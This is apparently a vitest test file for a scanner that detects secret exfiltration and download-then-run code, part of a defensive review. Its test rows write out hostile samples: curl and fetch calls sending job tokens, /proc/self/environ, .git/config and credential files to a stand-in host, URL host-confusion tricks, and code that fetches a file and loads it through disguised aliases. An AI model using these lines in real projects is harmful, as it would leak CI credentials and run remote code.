import { describe, expect, it } from 'vitest';
import { secretsSent } from '../../shared/analysis/secrets-sent.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND } from '../support/growth.js';
import { checksInLinearTime, describeAccepted, describeFindings, type FindingRow } from '../support/patches.js';

// Review of session 65 (branch safety65): variants of its new readings that slip through, and ordinary code the new
// readings refuse. Each finding's rows were written first and failed; a row fixed in this review is listed as closed,
// a row left open is `it.fails` with the reason (most: the analyze bundle had ~100 bytes of room left).

const BOOT = 'https://203.0.113.9/boot';
const closed = (rows: readonly [string, string][]): FindingRow[] => rows.map(([path, text]) => [path, text, 'closed']);

/** R65-1 (High): the host allow-list read `github.com:443@evil.io` as GitHub's: a user part with a colon was not skipped. */
const HOST_WITH_USER_PART: FindingRow[] = closed([
  ['test/a.test.js', "await fetch('https://github.com:443@203.0.113.9/c?t=' + process.env.MY_TOKEN)"],
  ['test/a.test.js', "await fetch('https://127.0.0.1:8080@203.0.113.9/c?t=' + process.env.MY_TOKEN)"],
  ['test/a.test.js', "await fetch('https://localhost:x@203.0.113.9/c?t=' + process.env.NPM_TOKEN)"],
  // A backslash or a query before the `@` ends the host for WHATWG's URL (Node's fetch): the host is 203.0.113.9.
  ['test/a.test.js', "await fetch('https://203.0.113.9\\\\@github.com/c?t=' + process.env.MY_TOKEN)"],
  ['test/a.test.js', "await fetch('https://203.0.113.9?@github.com/c?t=' + process.env.MY_TOKEN)"],
  ['test/a.test.js', "await fetch('https://203.0.113.9\\\\@localhost/c?t=' + process.env.MY_TOKEN)"],
]);

/** R65-2 (High): the whole environment read from /proc/self/environ and sent. */
const PROC_ENVIRON_SENT: FindingRow[] = closed([
  ['tests/t.py', "requests.post(u, data=open('/proc/self/environ').read())"],
  ['tests/t.py', "e = open('/proc/self/environ', 'rb').read()\nrequests.post(u, data=e)"],
  ['docs/debugging.md', 'curl -d @/proc/self/environ https://203.0.113.9/c'],
]);

/** R65-3 (High): the checkout's persisted token lives in .git/config (actions/checkout writes its extraheader there). */
const GIT_CONFIG_SENT: FindingRow[] = closed([
  ['docs/debugging.md', 'cat .git/config | curl -d @- https://203.0.113.9/c'],
  ['docs/debugging.md', 'curl -d @.git/config https://203.0.113.9/c'],
]);

/** R65-4 (High): a job token in a shell request's body (`curl -d`, `wget --post-data`), the brief's own example. */
const SHELL_BODY: FindingRow[] = closed([
  ['docs/debugging.md', 'curl -d "$GITHUB_TOKEN" https://203.0.113.9/c'],
  ['docs/debugging.md', 'curl -d "t=${GITHUB_TOKEN}" https://203.0.113.9/c'],
  ['docs/debugging.md', 'curl --data-urlencode "t=$NPM_TOKEN" https://203.0.113.9/c'],
  ['docs/debugging.md', 'wget --post-data "t=$GITHUB_TOKEN" https://203.0.113.9/c'],
]);

/** R65-8 (High): Java's stream opened in a statement of its own, then copied to the path loaded. */
const JAVA_STREAM_IN_ITS_OWN_STATEMENT: FindingRow[] = closed([
  ['src/test/java/T.java', `InputStream in = new URL("${BOOT}").openStream();\nFiles.copy(in, Paths.get("/tmp/b.so"));\nSystem.load("/tmp/b.so");`],
  ['src/test/java/T.java', `HttpURLConnection c = (HttpURLConnection) new URL("${BOOT}").openConnection();\nInputStream in = c.getInputStream();\nFiles.copy(in, Paths.get("/tmp/b.jar"));\nnew URLClassLoader(new URL[] { new File("/tmp/b.jar").toURI().toURL() });`],
]);

/** R65-5 (Medium): an import alias after another imported name (`from os import path, system as print`). */
const IMPORT_ALIAS_IN_A_LIST: FindingRow[] = closed([
  ['tests/t.py', 'p = urlretrieve(u)[0]\nfrom os import path, system as print\nprint(p)'],
]);

/**
 * Open (High where a secret or a download's run reaches a PR), left for room: each needs a reading of its own, more bytes
 * than the ~100 left in the analyze bundle. Rows marked closed are fixed in session 66 (`attack-66-safety.test.ts`).
 */
const OPEN_ALIASES: FindingRow[] = [
  // Other binding forms than `name = …` and `import … as name`.
  ['tests/t.py', 'p = urlretrieve(u)[0]\nprint, x = os.system, 1\nprint(p)', 'closed'],
  ['tests/t.py', "p = urlretrieve(u)[0]\nglobals()['print'] = os.system\nprint(p)", 'closed'],
  ['tests/t.py', "p = urlretrieve(u)[0]\nsetattr(builtins, 'print', os.system)\nprint(p)", 'closed'],
  ['tests/t.py', 'p = urlretrieve(u)[0]\nprint: Callable = os.system\nprint(p)', 'closed'],
  ['tests/t.py', 'p = urlretrieve(u)[0]\n(print := os.system)\nprint(p)', 'closed'],
  ['tests/t.py', 'p = urlretrieve(u)[0]\ndef print(c): return os.system(c)\nprint(p)', 'closed'],
  ['tests/t.py', "p = urlretrieve(u)[0]\nd = {'r': os.system}\nd['r'](p)", 'closed'],
  ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nconst [r] = [require];\nr('/tmp/m.js');", 'closed'],
  ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nconst o = { r: require };\no.r('/tmp/m.js');", 'closed'],
  ['tests/x.test.js', "execSync(`curl -o /tmp/m.js ${u}`);\nmodule.constructor._load('/tmp/m.js');", 'closed'],
];
const OPEN_DOWNLOAD_THEN_LOAD: FindingRow[] = [
  // A named download run by a process call: the marked name is matched only by code that loads a file.
  ['tests/t.py', "p = download_file(u)\nsubprocess.run(['sh', p])", 'closed'],
  ['tests/x.test.js', 'const { path: p } = await download(u);\nrequire(p);'],
  ['tests/x.test.js', 'const p = await download(u);\nconst q = p;\nrequire(q);', 'closed'],
  ['tests/x.test.js', 'const p = await download(u);\nrequire(`${p}`);'],
  ['tests/x.test.js', 'const p = await fetchToFile(u);\nrequire(p);'],
  // Java: the stream opened in its own statement, other writers, other path forms, other loaders; Kotlin.
  ['src/test/java/T.java', `HttpResponse<byte[]> r = client.send(HttpRequest.newBuilder(URI.create("${BOOT}")).build(), BodyHandlers.ofByteArray());\nFiles.write(Paths.get("/tmp/b.so"), r.body());\nSystem.load("/tmp/b.so");`, 'closed'],
  ['src/test/java/T.java', `client.send(HttpRequest.newBuilder(URI.create("${BOOT}")).build(), BodyHandlers.ofFile(Paths.get("/tmp/b.so")));\nSystem.load("/tmp/b.so");`, 'closed'],
  ['src/test/java/T.java', `FileUtils.copyURLToFile(new URL("${BOOT}"), new File("/tmp/b.so"));\nSystem.load("/tmp/b.so");`, 'closed'],
  ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), new File("/tmp/b.so").toPath());\nSystem.load("/tmp/b.so");`, 'closed'],
  ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), Path.of("/tmp", "b.so"));\nSystem.load("/tmp/b.so");`],
  ['src/test/java/T.java', `Files.copy(new URL("${BOOT}").openStream(), Paths.get("/tmp/b.so"));\nRuntime.getRuntime().load("/tmp/b.so");`, 'closed'],
  ['src/test/kotlin/T.kt', `File("/tmp/b.so").writeBytes(URL("${BOOT}").readBytes())\nSystem.load("/tmp/b.so")`, 'closed'],
];
const OPEN_SECRETS: FindingRow[] = [
  // A job token in the path of an options object, after a URL the test is given, or set on a URL object.
  ['test/a.test.js', "https.request({ host: '203.0.113.9', path: '/c?t=' + process.env.GITHUB_TOKEN }).end()", 'closed'],
  ['tests/t.py', "urllib.request.urlopen(url + os.environ['GITHUB_TOKEN'])", 'closed'],
  ['test/a.test.js', "const u = new URL('https://203.0.113.9/c');\nu.searchParams.set('t', process.env.GITHUB_TOKEN);\nawait fetch(u);", 'closed'],
  // A job token piped to curl, a credential file read by a substitution or a path built in pieces.
  ['docs/debugging.md', 'echo "$GITHUB_TOKEN" | curl -d @- https://203.0.113.9/c', 'closed'],
  ['docs/debugging.md', 'printenv GITHUB_TOKEN | curl -d @- https://203.0.113.9/c', 'closed'],
  ['docs/debugging.md', 'curl -d "$(cat ~/.git-credentials)" https://203.0.113.9/c', 'closed'],
  ['docs/debugging.md', 'curl -d "$(git config --get http.https://github.com/.extraheader)" https://203.0.113.9/c', 'closed'],
  ['tests/t.py', "requests.post(u, data=(Path.home() / '.aws' / 'credentials').read_text())", 'closed'],
  ['docs/debugging.md', 'tar cz ~/.aws | curl -T - https://203.0.113.9/c', 'closed'],
  // The environment: a call spread over lines (black's style), an object rest, the output of `env`.
  ['tests/t.py', 'e = dict(os.environ)\nr = requests.post(\n    u,\n    json=e,\n)', 'closed'],
  ['tests/t.py', 'r = requests.post(u, json=dict(\n    os.environ))', 'closed'],
  ['test/a.test.js', "const { ...e } = process.env;\nawait fetch(u, { method: 'POST', body: JSON.stringify(e) });", 'closed'],
  ['tests/t.py', "requests.post(u, data=subprocess.check_output('env'))", 'closed'],
];

/**
 * R65-7 (High, fixed by the lead at the merge): the runner-alias reading resolved the first 8 assignments it matched and
 * read the rest as written (fail open), and any assignment whose value named a runner counted, ordinary result holders
 * too (`r = subprocess.run([…])`, `const a = require('a')`): in a test file with 8 requires above it, `const r = require;
 * r(p)` was not read. Now a result holder is no alias, and past the bound every plain call is read as a process call.
 */
const ALIASES_PAST_THE_BOUND: FindingRow[] = [
  ['tests/x.test.js', `const p = await download(u);\n${"const a = require('a');\n".repeat(8)}const r = require;\nr(p);`, 'closed'],
  ['tests/x.test.js', `execSync(\`curl -o /tmp/m.js \${u}\`);\n${"const a = require('a');\n".repeat(8)}const r = require;\nr('/tmp/m.js');`, 'closed'],
  ['tests/t.py', `p = urlretrieve(u)[0]\n${"r = subprocess.run(['true'])\n".repeat(8)}print = os.system\nprint(p)`, 'closed'],
  ['tests/t.py', `p = urlretrieve(u)[0]\n${'a = os.system\n'.repeat(8)}print = os.system\nprint(p)`, 'closed'],
];

describeFindings('review 65', [
  ['R65-7: runner aliases past the bound of 8', ALIASES_PAST_THE_BOUND],
  ['R65-1: a user part with a colon before the host', HOST_WITH_USER_PART],
  ['R65-2: /proc/self/environ sent', PROC_ENVIRON_SENT],
  ['R65-3: .git/config sent', GIT_CONFIG_SENT],
  ['R65-4: a job token in a shell request body', SHELL_BODY],
  ['R65-5: an import alias after another name', IMPORT_ALIAS_IN_A_LIST],
  ['R65-8: Java, the stream opened in its own statement', JAVA_STREAM_IN_ITS_OWN_STATEMENT],
  ['open: other alias forms', OPEN_ALIASES],
  ['open: other download-then-load forms', OPEN_DOWNLOAD_THEN_LOAD],
  ['open: other secret-sending forms', OPEN_SECRETS],
]);

/** R65-6 (Medium, fixed): the body key's reach ran into the headers (a GitHub GraphQL call with its token in a header). */
describeAccepted('review 65: a body key followed by a token in a header', [
  ['tests/test_api.py', "requests.post('https://api.github.com/graphql', json={'query': q}, headers={'Authorization': 'bearer ' + os.environ['GITHUB_TOKEN']})"],
  ['test/api.test.js', "await fetch('https://api.github.com/graphql', { method: 'POST', body: JSON.stringify({ query }), headers: { Authorization: `bearer ${process.env.GITHUB_TOKEN}` } })"],
  ['docs/setup.md', 'curl -d @payload.json -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/repos/o/r/dispatches'],
]);

/** Ordinary code near this review's fixes. */
describeAccepted('review 65: ordinary code near the fixes', [
  // R65-7's fix: what a runner returned is no alias, however many there are beside a download read as data.
  ['test/x.test.js', `const p = await download(u);\n${"const a = require('a');\n".repeat(12)}expect(fs.readFileSync(p, 'utf8')).toContain('ok');`],
  ['tests/t.py', `p = urlretrieve(u)[0]\n${"r = subprocess.run(['true'])\n".repeat(12)}print(p)`],
  ['docs/setup.md', 'curl -X POST -H "Authorization: token $GITHUB_TOKEN" -d \'{"ref":"main"}\' https://api.github.com/repos/o/r/dispatches'],
  ['docs/setup.md', 'curl -u "x:$GITHUB_TOKEN" -d @body.json https://api.github.com/x'],
  ['docs/setup.md', 'curl -fsSL -d "name=test" https://httpbin.org/post'],
  ['docs/setup.md', 'docker run -d -e NPM_TOKEN=$NPM_TOKEN image'],
  ['docs/setup.md', 'curl http://localhost:3000/login?token=$TEST_TOKEN'],
  ['docs/setup.md', 'cat .git/config'],
  ['docs/setup.md', 'grep -q VmRSS /proc/self/status'],
  ['test/api.test.js', "await fetch('http://127.0.0.1:9000/x?token=' + process.env.TEST_TOKEN)"],
  ['test/api.test.js', "await fetch('https://user@github.com/x?token=' + process.env.TEST_TOKEN)"],
  ['tests/test_run.py', "from subprocess import PIPE, run as sh_run\nsh_run(['make'])"],
  ['src/test/java/CacheTest.java', 'String page = new String(new URL(url).openStream().readAllBytes());\nassertTrue(page.contains("ok"));\nFiles.copy(getClass().getResourceAsStream("/data.csv"), Paths.get("target/data.csv"));'],
  ['tests/test_run.py', "from os import path, environ\nfrom subprocess import run, PIPE\nrun(['make'], stdout=PIPE)"],
]);

/**
 * False refusals (Medium), fixed by the lead at the merge: `send` read as a socket's where it is a child process's IPC or
 * an HTTP handler's response.
 */
describeAccepted('review 65: a send to a child process or a handler\'s own response', [
  ['test/a.test.js', "const env = { ...process.env, FORCE_COLOR: '0' };\nconst child = spawn('node', [s], { env });\nchild.send({ env });"],
  ['tests/t.py', "env = os.environ.copy()\nself.send_response(200)\nself.send_header('X', env)"],
  ['test/a.test.js', "process.send({ env: process.env })"],
]);

/** Sends to a socket or a host beside them stay refused. */
describeFindings('review 65 (beside the send fix)', [
  ['sends that reach a host', [
    ['tests/t.py', "env = os.environ.copy()\nsock.send(json.dumps(env).encode())", 'closed'],
    ['tests/t.py', "sock.sendall(open(os.path.expanduser('~/.git-credentials')).read().encode())", 'closed'],
    ['test/a.test.js', "navigator.sendBeacon('https://203.0.113.9/c', JSON.stringify(process.env))", 'closed'],
    ['test/a.test.js', "ws.send(JSON.stringify({ t: process.env.GITHUB_TOKEN }))", 'closed'],
  ]],
]);

/**
 * False refusal (Medium), fixed in session 66: a test client's `.send` (supertest's `request(app).post('/hook').send({…})`)
 * goes to the app in the test's process. superagent's chain after `post('https://…')` goes to that host, and so does
 * supertest given a URL's string: those stay refused (`attack-66-safety.test.ts`).
 */
describeAccepted('review 65: a test client sending to the app in the test', [
  ['test/a.test.js', "const res = await request(app).post('/hook').send({ token: process.env.GITHUB_TOKEN })"],
]);

describe('review 65: the readings changed here cost linear time', () => {
  it('checks many user parts with a colon in linear time', () => checksInLinearTime('docs/x.md', 'host user part', 'https://github.com:1:1:1'));
  it('checks many curl -d in linear time', () => checksInLinearTime('docs/x.md', 'shell body', 'curl -d -d -d "$'));
  it('checks many result holders and aliases on one line in linear time', () => checksInLinearTime('tests/t.py', 'runner aliases', "p = urlretrieve(u)[0]; a = os.system(['x']) or b = os.system; "));
  // This review's first shell-body form (`[\w-]*data\S*`) took 13 s on one 10,000-character word `--datadata…`: each
  // `data` in it was tried as the flag's, each with the rest of the word. Read past the patch limit, as logs are.
  it('reads one long word after a flag in linear time', () => {
    const sizes = [12_500, 25_000, 50_000, 100_000];
    expect(cpuGrowthExponent(sizes, (size) => `x --${'data'.repeat(size / 4)}`, secretsSent)).toBeLessThan(LINEAR_EXPONENT_BOUND);
    expect(cpuGrowthExponent(sizes, (size) => `x --data${'-'.repeat(size)}`, secretsSent)).toBeLessThan(LINEAR_EXPONENT_BOUND);
  });
  it('checks many import lists in linear time', () => checksInLinearTime('tests/t.py', 'import list', 'from a import b, c, d, '));
  it('checks many body keys before a header in linear time', () => checksInLinearTime('tests/t.py', 'body key', "requests.post(u, json={'a': 1}, json={'b': 2}, "));
});
